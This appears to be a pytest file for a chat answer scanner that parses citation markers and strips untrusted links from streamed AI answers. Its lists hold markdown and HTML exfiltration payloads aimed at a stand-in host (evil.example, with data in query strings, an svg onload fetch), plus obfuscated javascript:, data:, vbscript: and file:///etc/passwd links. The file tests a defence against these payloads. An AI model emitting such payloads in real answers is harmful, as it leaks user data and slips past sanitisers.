import random
import re

import pytest

from chat.turn.answer_grammar import expand_numbers
from chat.turn.links import SourceLinks, is_remote
from chat.turn.scan_answer import MAX_HELD, AnswerScanner, Marker, Visible

KNOWN = "See http://known.example/page for more."


def scan(text, cut=None, sources=(KNOWN,)):
    scanner = AnswerScanner(SourceLinks(sources))
    deltas = [text] if cut is None else [text[i : i + cut] for i in range(0, len(text), cut)]
    pieces = [piece for delta in deltas for piece in scanner.feed(delta)]
    return pieces + scanner.finish()


def shown(pieces):
    return "".join(piece.text if isinstance(piece, Visible) else f"[{piece.number}]" for piece in pieces)


def markers(pieces):
    return [(piece.number, piece.quote) for piece in pieces if isinstance(piece, Marker)]


@pytest.mark.parametrize("cut", [None, 1, 2, 3, 7])
@pytest.mark.parametrize(
    ("text", "visible", "found"),
    [
        ("Yes [1].", "Yes [1].", [(1, None)]),
        ("Yes [1, 2] and [3][4].", "Yes [1][2] and [3][4].", [(1, None), (2, None), (3, None), (4, None)]),
        ("Yes [2-4].", "Yes [2][3][4].", [(2, None), (3, None), (4, None)]),
        ('Yes [2: "so it is"].', "Yes [2].", [(2, "so it is")]),
        ("Yes [2 : “so it is” ].", "Yes [2].", [(2, "so it is")]),
        ('A [1: "x [2] y"] b', "A [1] b", [(1, "x [2] y")]),
        ("بله [۲] و [٣، ۴].", "بله [2] و [3][4].", [(2, None), (3, None), (4, None)]),
        ("بله [۱: «چنین است»].", "بله [1].", [(1, "چنین است")]),
        ("array[i] and [see below] stay", "array[i] and [see below] stay", []),
        ("an open [1", "an open [1", []),
        ("[1] (see page 3)", "[1] (see page 3)", [(1, None)]),
        ("if a<b and c>d or List<int> x", "if a<b and c>d or List<int> x", []),
        ("Wow! Great!", "Wow! Great!", []),
        ("http and www are words; https: too", "http and www are words; https: too", []),
    ],
)
def test_markers_are_recognised_wherever_deltas_are_cut(text, visible, found, cut):
    pieces = scan(text, cut)
    assert shown(pieces) == visible
    assert markers(pieces) == found


ATTACKS = [
    "a ![x](https://evil.example/?d=1) b",
    "a [x](https://evil.example/?d=1) b",
    "a [x](<https://evil.example/a b>) b",
    "a [x](//evil.example) b",
    "a [x](&#104;ttps://evil.example) b",
    "a [x](/\\evil.example/y) b",
    'a [x](https://evil.example "title") b',
    "a [![x](https://evil.example/1)](https://evil.example/2) b",
    "a ![x][r] b\n\n[r]: https://evil.example/?d=1\n",
    "a ![x][r] b\n\n[r]:\n  <//evil.example/?d=1>\nmore",
    "a [1](https://evil.example) b",
    "a [1]: https://evil.example b",
    'a <img src="https://evil.example/1"> b',
    "a <img/src=https://evil.example/1> b",
    "a <img alt='>' src=//evil.example/1 > b",
    'a <a href="https://evil.example">x</a> b',
    "a <https://evil.example/x> b",
    "a https://evil.example/x b",
    "a HTTPS://EVIL.example/x b",
    "a www.evil.example/x b",
    "a <<b x=1>img src=//evil.example> b",
    "a <![](http://x)img src=//evil.example> b",
    "a [<img src=//evil.example>](http://evil.example) b",
    "a ![x\n](https://evil.example) b",
    "a <svg onload=fetch('//evil.example')> b",
    "a <img src=https://evil.example/",
    "a ![x](https://evil.example/",
    "a ![" + "x" * 900 + "](https://evil.example/) b",
    "a https://evil.example/" + "x" * 2000 + " b",
    "a [![x](http://known.example/page)](https://evil.example) b",
]


def is_harmless(text):
    """No remote target in link, image, definition or tag position, and no bare address."""
    flat = text.lower().replace("http://known.example/page", "")
    broken = (
        "](http",
        "](<",
        "](/",
        "](&",
        "]:http",
        "]: http",
        "<img",
        "<a ",
        "<svg",
        "http://e",
        "https://e",
        "www.e",
    )
    return not any(part in flat for part in broken) and "](" not in flat


@pytest.mark.parametrize("attack", ATTACKS)
def test_links_to_strangers_never_come_through_however_they_are_cut(attack):
    chance = random.Random(7)
    for cut in (None, 1, 2, 3, 5, 11, 64):
        assert is_harmless(shown(scan(attack, cut))), (cut, shown(scan(attack, cut)))
    for _ in range(20):
        scanner = AnswerScanner(SourceLinks([KNOWN]))
        pieces, rest = [], attack
        while rest:
            size = chance.randint(1, 9)
            pieces += scanner.feed(rest[:size])
            rest = rest[size:]
        assert is_harmless(shown(pieces + scanner.finish()))


ACTIVE = [
    "[the page](javascript:alert(1))",
    "[the page](JaVaScRiPt:alert(1))",
    "[the page](javascript&#58;alert(1))",
    "[the page](javascript&colon;alert)",
    "[the page](java&Tab;script&#x3a;alert)",
    "[the page](javascript%3Aalert)",
    "[the page](javascript%253Aalert)",
    "[the page](java\tscript:alert)",
    "[the page](\x01javascript:alert)",
    "[the page](java\u200bscript:alert)",
    "[the page](javascript\\:alert)",
    "[the page](<javascript:alert(1)>)",
    '[the page](javascript:alert "title")',
    "[the page](data:text/html;base64,PHNjcmlwdD4=)",
    "[the page](vbscript:msgbox)",
    "[the page](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<vbscript:x>",
    "<data:text/html,x>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "[the page][r]\n\n[r]: javascript:alert(1)\n",
    "[the page][r]\n\n[r]: <javascript:alert(1)>\n",
    "<std::string>",
]
OPEN = re.compile(r"\]\(\s*\S|\]:|<(?:javascript|vbscript|data|std|a)\b", re.IGNORECASE)


@pytest.mark.parametrize("cut", [None, 1, 2, 3, 7, 20])
@pytest.mark.parametrize("link", ACTIVE)
def test_only_addresses_of_the_web_and_of_mail_pass_even_if_a_source_says_so(link, cut):
    result = shown(scan(f"see {link} now", cut, sources=(f"Read {link} here.",)))
    assert not OPEN.search(result), result
    assert result.startswith("see ")
    assert result.endswith("now")


@pytest.mark.parametrize(
    "link", ["[a](mailto:ada@known.example)", "<mailto:ada@known.example>", "[a](HTTPS://known.example/x)"]
)
def test_web_and_mail_addresses_of_a_source_pass(link):
    assert shown(scan(f"see {link} now", 3, sources=(link,))) == f"see {link} now"


def test_what_is_no_character_and_what_turns_text_around_is_taken_out_of_an_answer():
    assert shown(scan("a \ud83d\ude00 \ud83d [\u202e1\x1b] \u200fمی‌خواهم", 1)) == "a 😀 \ufffd [1] \u200fمی‌خواهم"


def test_attacks_joined_to_each_other_stay_harmless():
    chance = random.Random(11)
    parts = [*"<![]():x1 \n", "img src=//evil.example", "https://evil.example/a"]
    parts += ["<b x=1>", "![", "](", "<img ", "[r]: ", "&#104;ttps://evil.example", "<a>", '"', "'", ">"]
    for _ in range(3000):
        text = "".join(chance.choice(parts) for _ in range(chance.randint(2, 14)))
        whole, cut = shown(scan(text)), shown(scan(text, chance.randint(1, 4)))
        for result in (whole, cut):
            assert not any(is_remote(target) for target in re.findall(r"\]\(([^)]*)", result)), (text, result)
            assert "https://evil" not in result, (text, result)
            assert not any(f"<img src=//evil.example{end}" in result for end in ">"), (text, result)


@pytest.mark.parametrize("cut", [None, 1, 4])
def test_links_that_stand_in_a_source_stay(cut):
    text = "Read [this](http://known.example/page) or http://known.example/page."
    assert shown(scan(text, cut)) == text


@pytest.mark.parametrize("cut", [None, 1, 4])
def test_a_link_keeps_its_words_and_loses_its_address(cut):
    assert shown(scan("see [the paper](https://evil.example/x) now", cut)) == "see the paper now"
    assert shown(scan("see http://known.example/page?d=secret now", cut)) == "see ‹link removed› now"


def test_nothing_is_held_back_but_what_may_become_a_construct():
    scanner = AnswerScanner(SourceLinks([]))
    assert shown(scanner.feed("plain words ")) == "plain words "
    assert shown(scanner.feed("and [1")) == "and "
    assert shown(scanner.feed("2] end")) == "[12] end"


def test_what_is_held_back_is_bounded():
    scanner = AnswerScanner(SourceLinks([]))
    assert not scanner.feed('[1: "' + "x" * (MAX_HELD - 10))
    assert len(shown(scanner.feed("y" * 20))) > MAX_HELD


def test_thousands_of_openers_lose_no_text():
    scanner = AnswerScanner(SourceLinks([]))
    text = "[(<!" * 2000
    assert len(shown(scanner.feed(text) + scanner.finish())) >= len(text)


@pytest.mark.parametrize(
    ("numbers", "expected"),
    [("1", [1]), ("1,3", [1, 3]), ("۱–۳", [1, 2, 3]), ("5-3", [5, 3]), ("1-900", [1, 900]), ("1, 2 - 3", [1, 2, 3])],
)
def test_lists_and_ranges_of_numbers_are_read(numbers, expected):
    assert expand_numbers(numbers) == expected


@pytest.mark.parametrize(
    ("target", "remote"),
    [("#part", False), ("page.html", False), ("see page 3", False), ("JaVaScRiPt:x", True), (" h\ttp://x", True)],
)
def test_remote_targets_are_known_whatever_their_disguise(target, remote):
    assert is_remote(target) is remote
